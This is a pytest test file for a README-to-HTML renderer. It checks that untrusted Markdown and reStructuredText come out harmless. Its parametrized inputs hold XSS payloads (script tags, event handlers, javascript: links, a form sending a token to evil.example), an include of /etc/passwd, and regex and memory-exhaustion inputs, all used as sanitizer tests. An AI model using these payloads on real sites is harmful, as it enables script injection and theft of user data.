"""READMEs as HTML: what is shown, and what never is."""

from __future__ import annotations

import json
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pypihub.index import readme as module
from pypihub.index.readme import Readme, rendered

_TREE = "https://github.com/octo/demo/blob/v1.0/"
_MARKDOWN, _RST = "text/markdown", "text/x-rst"


def _rendered(text: str, content_type: str | None = _MARKDOWN, *, images: bool = False) -> str:
    return rendered(Readme(text, content_type, _TREE, images))


class _Seen(HTMLParser):
    """The tags of HTML, and their attributes as a browser reads them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def _check_harmless(html: str) -> None:
    seen = _Seen(html)
    forbidden = {"script", "style", "iframe", "object", "embed", "form", "link", "meta", "base", "svg", "math", "img"}
    assert not forbidden & set(seen.tags), html
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), html
        assert name not in ("style", "srcdoc", "action", "formaction", "srcset", "src"), html
        if name == "id":
            assert value.startswith("user-content-")
        if name == "href":
            assert value.startswith(("#user-content-", "https://", "http://", "mailto:")), html
        if (tag, name) == ("input", "type"):
            assert value == "checkbox"


def test_markdown_is_rendered_with_what_github_adds_to_it() -> None:
    html = _rendered("# Title\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n- [x] done\n\n```python\nimport this\n```\n")
    for part in ("<h1", "<td>1</td>", "<del>2</del>", 'type="checkbox"', '<span class="kn">import</span>'):
        assert part in html


def test_restructuredtext_is_what_is_not_said_to_be_otherwise() -> None:
    for content_type in (_RST, None, "text/x-rst; charset=UTF-8"):
        assert '<a class="reference' not in _rendered("Title\n=====\n\nSome ``code``.\n", content_type)
        assert ">Title" in _rendered("Title\n=====\n\nSome ``code``.\n", content_type)
        assert "=====" not in _rendered("Title\n=====\n\nSome ``code``.\n", content_type)


@pytest.mark.parametrize(
    ("text", "content_type"),
    [
        ("Title\n==\n\n.. nonsense::\n", None),
        ("1 < 2 & *so*", "text/plain"),
        ("1 < 2", "application/pdf"),
        (".. include:: /etc/passwd\n", _RST),
        (".. raw:: html\n\n   <script>alert(1)</script>\n", _RST),
    ],
)
def test_what_cannot_be_rendered_is_shown_as_it_is(text: str, content_type: str | None) -> None:
    html = _rendered(text, content_type)
    assert html.startswith("<pre>")
    assert "<script" not in html
    assert text.splitlines()[0].replace("&", "&amp;").replace("<", "&lt;") in html


def test_a_long_one_is_cut_and_shown_as_it_is() -> None:
    html = _rendered("a" * (module.LONGEST + 1))
    assert len(html) < module.LONGEST + 100
    assert html.endswith("…</pre>")


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        '<img src=x onerror="alert(1)">',
        "<svg><script>alert(1)</script></svg>",
        "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
        "<iframe src=https://evil.example></iframe>",
        "<p style='position:fixed;inset:0'>x</p>",
        "<form action=https://evil.example><input name=token></form>",
        "<input type=image src=https://evil.example/x>",
        "<base href=https://evil.example/><a href=x>y</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "<a href='vbscript:x'>y</a>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<a id=q name=q href='#main'>x</a>",
        "![<script>alert(1)</script>](x)",
        '<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=x>',
        "<img alt='\"><script>alert(1)</script>' src=x>",
        '<img src=x title="a>b" alt="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">',
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<details open ontoggle=alert(1)>x</details>",
        '```html"><script>alert(1)</script>\nx\n```',
        '<https://evil.example/"onmouseover="alert(1)>',
    ],
)
@pytest.mark.parametrize("content_type", [_MARKDOWN, "text/markdown; variant=CommonMark", _RST, "text/plain"])
def test_nothing_in_one_is_run_loaded_or_sent(text: str, content_type: str) -> None:
    _check_harmless(_rendered(text, content_type))


_PARTS = (
    "< > \" ' = / img a script onerror src href alt &lt; &#34; [ ]( ) ! ` javascript: data: style svg <!-- --> \\ * x"
)


@settings(max_examples=150)
@given(
    st.lists(st.sampled_from([*_PARTS.split(), " ", "\n"]), max_size=30),
    st.sampled_from([_MARKDOWN, "text/markdown; variant=CommonMark"]),
)
def test_whatever_it_is_put_together_from(parts: list[str], content_type: str) -> None:
    _check_harmless(_rendered("".join(parts), content_type))


def test_relative_links_lead_to_the_repository_as_it_was() -> None:
    html = _rendered(
        "[a](docs/a.md) [b](../b) [c](/c) [d](#part) [e](https://e.example) [f](//f.example/x)\n\n# Part\n"
    )
    for url in (f"{_TREE}docs/a.md", "#user-content-part", "https://e.example", "https://f.example/x"):
        assert f'href="{url}"' in html
    assert 'id="user-content-part"' in html
    assert html.count("nofollow noopener noreferrer") == html.count("<a ")


def test_an_image_is_its_text_unless_images_are_allowed() -> None:
    text = '[![the <b> "build"](https://ci.example/b.svg)](https://ci.example) ![](no.png) ![logo](img/logo.png)'
    html = _rendered(text)
    assert "<img" not in html
    assert '<span class="image">the &lt;b&gt; "build"</span></a>' in html
    assert "ci.example/b.svg" not in html
    allowed = _rendered(text, images=True)
    assert 'src="https://ci.example/b.svg"' in allowed
    assert 'src="https://github.com/octo/demo/raw/v1.0/img/logo.png"' in allowed
    assert "data:" not in _rendered("![x](data:image/png;base64,AAAA)", images=True)


def _program(before: str, request: object) -> subprocess.CompletedProcess[bytes]:
    code = f"from pypihub.index import readme\n{before}\nreadme.main()"
    text = json.dumps(request).encode()
    return subprocess.run([sys.executable, "-c", code], input=text, capture_output=True, timeout=60, check=False)


_REQUEST = {"text": "# Hi ✓", "content_type": _MARKDOWN, "tree": _TREE, "remote_images": False}


def test_the_program_renders_what_it_reads() -> None:
    ended = _program("", _REQUEST)
    assert ended.returncode == 0, ended.stderr
    assert ended.stdout.decode() == _rendered("# Hi ✓")


@pytest.mark.parametrize(
    ("before", "hostile"),
    [
        ("readme.TIME = 1", "import re; re.match('(a+)+$', 'a' * 60 + 'b')"),
        ("readme.MEMORY = 300 * 2**20", "bytearray(600 * 2**20)"),
    ],
)
def test_the_program_ends_where_rendering_takes_too_much(before: str, hostile: str) -> None:
    ended = _program(f"{before}\ndef bad(_): exec({hostile!r})\nreadme.rendered = bad", _REQUEST)
    assert ended.returncode != 0
    assert not ended.stdout
